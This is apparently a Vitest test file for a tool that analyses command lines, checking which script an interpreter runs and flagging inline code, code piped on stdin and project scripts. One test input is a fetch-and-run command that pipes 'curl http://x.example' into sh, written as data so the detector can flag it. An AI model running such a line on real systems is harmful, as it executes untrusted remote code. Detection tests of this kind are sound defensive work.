import { expect, test } from 'vitest';
import { look, severe } from './look.fixture.ts';

test('only what runs JavaScript is told by -r what to load first', () => {
  expect(look(['php8.2', '-r', 'echo 1;']).started).toEqual([]);
  expect(look(['node', '-r', './x.js', 's.js']).started.map(({ word }) => word.text)).toEqual(['./x.js', 's.js']);
  expect(severe(['php8.2', '-r', 'system("curl http://x.example | sh");'])).toEqual(['inline-code']);
});

test.each([
  'node --title /opt/safe.js /opt/s.js',
  'node --diagnostic-dir /tmp --test-reporter x /opt/s.js',
  'timeout --sig KILL 5 node /opt/s.js',
  'stdbuf --output L node /opt/s.js',
  'systemd-run --user --description x --scope node /opt/s.js',
])('no value of an option passes for what runs: %s', (line) => {
  expect(look(line.split(' ')).program).toBe('/opt/s.js');
});

test.each(['bash', 'sh -s a', 'node', 'python3 -', 'env python3 -i', 'pwsh -NoProfile -', 'timeout 9 node /dev/stdin'])(
  'an interpreter that is given nothing runs what it is fed: %s',
  (line) => expect(severe(line.split(' '))).toEqual(['piped-code']),
);

test.each(['bash --version', 'node -v', 'python3 -V'])('one that only says what it is does not: %s', (line) => {
  expect(severe(line.split(' '))).toEqual([]);
});

test.each(['node --run start', 'deno task start', 'bun start', 'bun run start'])(
  'a line of the project’s is no file: %s',
  (line) => {
    const { started, findings } = look(line.split(' '));
    expect([started, findings.map(({ id }) => id)]).toEqual([[], ['workspace-program']]);
  },
);
